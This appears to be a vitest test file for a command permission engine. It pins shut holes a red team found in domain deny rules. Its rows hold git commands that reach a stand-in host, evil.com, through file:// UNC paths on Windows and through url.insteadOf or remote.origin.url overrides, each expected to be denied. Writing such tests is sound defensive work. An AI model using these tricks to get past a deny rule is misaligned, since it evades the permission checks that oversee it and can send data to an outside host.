// Network reach found by a fourth red team of Domain rules (fetch and URL parsing): hosts a line
// reaches that a deny rule names while the engine allowed it. Rows pin each hole closed; the
// ordinary lines beside them stay allowed.
import { describe } from 'vitest';
import { lineTable } from './helpers/line-table.js';
import { REPO_WINDOWS } from './helpers/policy.js';

const DENY_EVIL = { deny: ['Domain(evil.com)', 'Domain(*.evil.com)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('git file:// URLs with a host: Git for Windows opens //HOST/path, a UNC path (SMB to HOST)', () => {
  lineTable(DENY_EVIL, [
    ['git clone file://evil.com/r', 'deny'],
    ['git clone file://EVIL.com/s/r.git', 'deny'],
    ['git push file://evil.com/r main', 'deny'],
    ['git -c remote.origin.url=file://evil.com/r fetch', 'deny'],
    ['git -c url.file://evil.com/.insteadOf=https://github.com/ clone https://github.com/r', 'deny'],
    ['git clone file:///C:/src/r', 'allow'],
    ['git clone file:///r', 'allow'],
    ['git clone https://github.com/o/r', 'allow'],
    ['git status', 'allow'],
  ], 'shell', REPO_WINDOWS);
  lineTable(DENY_EVIL, [
    ['git clone file://evil.com/r', 'deny'],
    ['git clone file:///C:/src/r', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});
